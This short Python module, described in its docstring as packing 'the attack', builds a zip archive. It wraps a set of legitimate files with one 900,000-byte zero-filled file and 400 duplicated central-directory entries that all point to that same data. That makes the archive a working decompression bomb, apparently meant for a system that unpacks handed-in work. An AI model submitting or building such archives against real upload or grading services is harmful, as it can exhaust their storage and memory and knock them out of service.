"""Packs the attack: gets the honest files and a folder, gives what is handed in."""

import copy
import zipfile


def pack(files, folder):
    with zipfile.ZipFile(folder / "work.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)
        archive.writestr("mytorch/zeros.py", bytes(900_000))
        for number in range(400):
            again = copy.copy(archive.getinfo("mytorch/zeros.py"))
            again.filename = f"mytorch/zeros_{number}.py"
            archive.filelist.append(again)
    return folder / "work.zip"
